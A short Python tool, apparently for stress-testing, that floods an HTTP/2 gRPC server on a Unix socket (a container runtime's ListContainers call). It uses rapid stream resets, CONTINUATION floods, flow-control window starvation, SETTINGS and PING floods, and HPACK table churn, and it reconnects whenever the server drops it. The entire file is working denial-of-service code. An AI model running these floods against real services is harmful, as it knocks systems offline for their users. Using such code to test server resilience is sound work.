#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Abuses an HTTP/2 server: h2_abuse.py SOCKET KIND SECONDS

Connects again whenever it is thrown out; prints how often and what it sent.
"""
import socket, struct, sys, time

path, kind, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def text(s):
    return bytes([len(s)]) + s


def literal(name, value):
    return b"\0" + text(name) + text(value)


REQUEST = (b"\x83\x86" + literal(b":path", b"/runtime.v1.RuntimeService/ListContainers") + literal(b":authority", b"x") +
           literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
EMPTY = b"\0\0\0\0\0"


def call(stream):
    return frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(DATA, END_STREAM, stream, EMPTY)


def streams():
    return range(1, 1 << 30, 2)


def reset():
    for s in streams():
        yield call(s) + frame(RST, 0, s, b"\0\0\0\x08")


def continuation():
    yield frame(HEADERS, 0, 1, REQUEST)
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-filler", b"y" * 100) * 100)


def window():
    # no window for answers; then a byte for each of them, for ever
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for s in streams():
        yield call(s) + frame(WINDOW, 0, s, b"\0\0\0\1") + frame(WINDOW, 0, 0, b"\0\0\0\1")


def settings():
    while True:
        for size in (0, 65535, 1 << 20):
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) * 50


def ping():
    while True:
        yield frame(PING, 0, 0, b"12345678") * 200


def empty():
    yield frame(HEADERS, END_HEADERS, 1, REQUEST)
    while True:
        yield frame(DATA, 0, 1) * 500


def unread():
    for s in streams():
        yield call(s)


def table():
    # a huge table, filled and emptied
    while True:
        for s in streams():
            yield frame(HEADERS, END_HEADERS | END_STREAM, s, b"\x3f\xe1\x1f" + b"\x40" + text(b"x%d" % s) + text(b"v" * 120))


def reads(kind):
    return kind not in ("unread", "ping", "settings")


end, sent, connections = time.monotonic() + seconds, 0, 0
while time.monotonic() < end:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(0.5)
    connections += 1
    try:
        s.connect(path)
        s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for data in globals()[kind]():
            s.sendall(data)
            sent += len(data)
            if reads(kind):
                try:
                    s.recv(65536, socket.MSG_DONTWAIT)
                except BlockingIOError:
                    pass
            if time.monotonic() > end:
                break
    except socket.timeout:
        # not read from any more: wait as long as there is time
        time.sleep(max(0, min(0.5, end - time.monotonic())))
    except OSError:
        pass
    s.close()
print(f"{connections} connections, {sent >> 10} kB")
